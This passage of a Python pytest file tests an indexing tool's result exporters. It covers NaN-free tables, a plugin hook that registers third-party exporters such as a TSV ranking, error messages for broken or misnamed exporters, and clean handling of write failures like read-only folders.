        assert "results.md` is a folder" in outcome.err
        assert not (cities.root / "out" / "run.json").exists()


def test_tables_hold_no_nan():
    """Every typed value is a plain Python value: no numpy scalar, no NaN."""
    assert exports.real(float("nan")) is None
    assert exports.real(np.float64(-0.0)) == 0.0 and math.copysign(1, exports.real(-0.0)) == 1


class TsvExporter(Exporter):
    """A third party's format: the overall ranking as tab-separated values."""

    name = "tsv"
    summary = "the overall ranking as tab-separated values"
    writes = "ranking.tsv"

    def render(self, export):
        units = export.tables["units"]
        rank = units.names.index(f"{export.result.graph.root}_rank")
        return {"ranking.tsv": "".join(f"{row[rank]}\t{row[0]}\n" for row in units.rows)}


class BrokenExporter(Exporter):
    name = "broken"
    summary = "fails"

    def render(self, export):
        raise KeyError("no such table")


def third_party_module(*classes) -> types.ModuleType:
    module = types.ModuleType("tsv_plugin")

    @hookimpl
    def indexdsl_register_exporters():
        return list(classes)

    module.indexdsl_register_exporters = indexdsl_register_exporters
    return module


def install_plugin(monkeypatch, module: types.ModuleType) -> None:
    """Register ``module`` beside the built-in plugins for this test (as an installed
    distribution's entry point would be)."""
    monkeypatch.setitem(sys.modules, module.__name__, module)
    monkeypatch.setattr(plugins, "BUILTIN_PLUGINS", (*plugins.BUILTIN_PLUGINS, module.__name__))


class TestExporterHook:
    def test_builtin_formats_are_exporters_of_the_builtin_plugin(self, registry):
        assert exports.available(registry)[:7] == [
            "csv",
            "json",
            "md",
            "sqlite",
            "xlsx",
            "parquet",
            "html",
        ]
        for name in exports.available(registry):
            provided = registry.get("exporter", name)
            assert provided.plugin == f"indexdsl_builtins.export_{name}"
            assert provided.cls.role == "exporter" and provided.cls.writes

    def test_a_third_party_exporter_in_a_plugin_manager(self, cities):
        pm = get_plugin_manager()
        pm.register(third_party_module(TsvExporter), name="tsv_plugin")
        registry = Registry(pm)
        assert registry.get("exporter", "tsv").plugin == "tsv_plugin"
        assert exports.available(registry)[-1] == "tsv"  # after the built-in formats
        result = computed(cities)
        out = cities.root / "out"
        written = writing.write_outputs(
            result, out, cities.root / "index.idx", [], registry, ["tsv", "md"]
        )
        assert [p.name for p in written] == ["results.md", "ranking.tsv", "run.json"]
        root = result.graph.root
        expected = sorted(
            (int(r), k) for r, k in zip(result.units.ranks[root], result.data.keys, strict=True)
        )
        shown = [line.split("\t") for line in (out / "ranking.tsv").read_text().splitlines()]
        assert [(int(r), k) for r, k in shown] == expected

    def test_the_command_line_finds_an_installed_exporter(self, cities, monkeypatch):
        install_plugin(monkeypatch, third_party_module(TsvExporter))
        run(cities, "--out", "out", "--format", "tsv", "--only")
        assert sorted(p.name for p in (cities.root / "out").iterdir()) == [
            "ranking.tsv",
            "run.json",
        ]
        outcome = cities.cli("run", "index.idx", "-q", "--format", "tvs")
        assert outcome.code == 2
        assert "did you mean `tsv` (exporter from `tsv_plugin`)?" in outcome.err
        listed = cities.cli("plugins").out
        assert "tsv_plugin" in listed and "exporter" in listed

    def test_an_exporter_that_fails_is_named(self, cities, monkeypatch):
        install_plugin(monkeypatch, third_party_module(BrokenExporter))
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "csv,broken")
        assert outcome.code == 3
        assert "error[E901]: exporter `broken` (plugin `tsv_plugin`) failed: KeyError" in (
            outcome.err
        )
        assert "Traceback" not in outcome.err
        assert not (cities.root / "out").exists()  # nothing written: rendering comes first

    def test_a_class_that_is_not_an_exporter_is_refused(self, monkeypatch):
        install_plugin(monkeypatch, third_party_module(object))
        with pytest.raises(PluginError, match="is not a Exporter subclass"):
            load_registry()


class TestWriteFailures:
    """A failure to write is E801 with exit code 5, names the path and the operating
    system's reason, and leaves nothing half-written."""

    def test_a_parent_that_is_a_file(self, cities):
        (cities.root / "notes.txt").write_text("mine")
        outcome = cities.cli("run", "index.idx", "-q", "--out", "notes.txt/bri", "--format", "md")
        assert outcome.code == 5
        assert (
            "error[E801]: cannot write the results to `notes.txt/bri`: it, or a folder above it, "
            "is a file"
        ) in outcome.err
        assert "= note: the operating system said: [Errno 20] Not a directory" in outcome.err
        assert "help: choose another folder with `--out`" in outcome.err
        assert (cities.root / "notes.txt").read_text() == "mine"

    @pytest.mark.skipif(
        not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root may write anywhere"
    )
    def test_a_read_only_folder(self, cities):
        locked = cities.root / "locked"
        locked.mkdir()
        locked.chmod(0o500)
        try:
            outcome = cities.cli("run", "index.idx", "-q", "--out", "locked/out")
        finally:
            locked.chmod(0o700)
        assert outcome.code == 5
        assert "cannot write the results to `locked/out`: Permission denied" in outcome.err
        assert "[Errno 13]" in outcome.err
        assert list(locked.iterdir()) == []

    def test_a_file_that_cannot_be_replaced_leaves_no_staging(self, cities, monkeypatch):
        real = os.replace

        def refuse(source, target):
            if str(target).endswith("results.md"):
                raise PermissionError(13, "Permission denied", str(target))
            return real(source, target)

        monkeypatch.setattr(writing.os, "replace", refuse)
        outcome = cities.cli("run", "index.idx", "-q", "--out", "out", "--format", "md", "--only")
        assert outcome.code == 5
        assert "cannot write the results to `out`: Permission denied" in outcome.err
        assert "results.md" in outcome.err  # the note names the file
        assert (
            list((cities.root / "out").iterdir()) == []
        )  # no run.json: the run is not marked done
